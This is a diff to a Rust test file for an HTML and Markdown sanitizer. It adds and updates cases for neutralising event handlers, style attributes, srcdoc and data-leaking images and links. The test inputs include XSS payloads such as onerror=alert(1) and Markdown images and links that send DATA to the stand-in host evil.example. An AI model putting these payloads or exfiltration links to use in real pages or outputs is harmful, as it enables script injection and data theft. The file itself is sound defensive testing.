@@ -26,6 +26,21 @@ fn with_data(text: &str) -> String {
 /// What HTML runs or loads, what it becomes, and which rule found it.
 const HTML: &[(&str, &str, Rule)] = &[
     (
+        "<b title=\\\n> onclick=a()",
+        "<b title=\\\n> data-onclick=a()",
+        Rule::EventHandler,
+    ),
+    (
+        "<p oncontentvisibilityautostatechange=a()>",
+        "<p data-oncontentvisibilityautostatechange=a()>",
+        Rule::EventHandler,
+    ),
+    (
+        "<p onwebkitplaybacktargetavailabilitychanged=a()>",
+        "<p data-onwebkitplaybacktargetavailabilitychanged=a()>",
+        Rule::EventHandler,
+    ),
+    (
         "a <script>x()</script>",
         "a &lt;script>x()</script>",
         Rule::Script,
@@ -64,52 +79,52 @@ const HTML: &[(&str, &str, Rule)] = &[
     ),
     (
         "<img src=x onerror=alert(1)>",
-        "<img src=x onerror&#61;alert(1)>",
+        "<img src=x data-onerror=alert(1)>",
         Rule::EventHandler,
     ),
     (
         "<img src=x onerror = alert(1)>",
-        "<img src=x onerror &#61; alert(1)>",
+        "<img src=x data-onerror = alert(1)>",
         Rule::EventHandler,
     ),
     (
         "<img src=x/onerror=a()>",
-        "<img src=x/onerror&#61;a()>",
+        "<img src=x/data-onerror=a()>",
         Rule::EventHandler,
     ),
     (
         "<b x=\"y\"onclick=a()>",
-        "<b x=\"y\"onclick&#61;a()>",
+        "<b x=\"y\"data-onclick=a()>",
         Rule::EventHandler,
     ),
     (
         "<b x=\">\" onclick=a()>",
-        "<b x=\">\" onclick&#61;a()>",
+        "<b x=\">\" data-onclick=a()>",
         Rule::EventHandler,
     ),
     (
         "<b x\" y=\">\" onclick=a()>",
-        "<b x\" y=\">\" onclick&#61;a()>",
+        "<b x\" y=\">\" data-onclick=a()>",
         Rule::EventHandler,
     ),
     (
         "<img alt=\"<b>\" onerror=a()>",
-        "<img alt=\"<b>\" onerror&#61;a()>",
+        "<img alt=\"<b>\" data-onerror=a()>",
         Rule::EventHandler,
     ),
     (
         "<div title=\"\n\nb\">\n\n<p>\n\" onclick=a() x=\"",
-        "<div title=\"\n\nb\">\n\n<p>\n\" onclick&#61;a() x=\"",
+        "<div title=\"\n\nb\">\n\n<p>\n\" data-onclick=a() x=\"",
         Rule::EventHandler,
     ),
     (
         "<p style='background:url(x)'>",
-        "<p style&#61;'background:url(x)'>",
+        "<p data-style='background:url(x)'>",
         Rule::Style,
     ),
     (
         "<p style='b:\\75rl(x)'>",
-        "<p style&#61;'b:\\75rl(x)'>",
+        "<p data-style='b:\\75rl(x)'>",
         Rule::Style,
     ),
     (
@@ -147,7 +162,7 @@ const HTML: &[(&str, &str, Rule)] = &[
         "<a href='data%3Atext/html,x'>",
         Rule::DataUri,
     ),
-    ("<b srcdoc='x'>", "<b srcdoc&#61;'x'>", Rule::Frame),
+    ("<b srcdoc='x'>", "<b data-srcdoc='x'>", Rule::Frame),
 ];
 
 #[test]
@@ -184,6 +199,10 @@ fn n1_4_addresses_that_run_are_neutralised_wherever_markdown_takes_one() {
 
 /// What carries data out, and what is left of it.
 const CARRIED: &[(&str, &str)] = &[
+    (
+        "![b]: x\n\n[b]: https://evil.example/?q=DATA",
+        "![b]: x\n\n[b] : [link removed: evil.example]",
+    ),
     (
         "![logo](https://evil.example/a.png?q=DATA)",
         "logo [image removed: evil.example]",
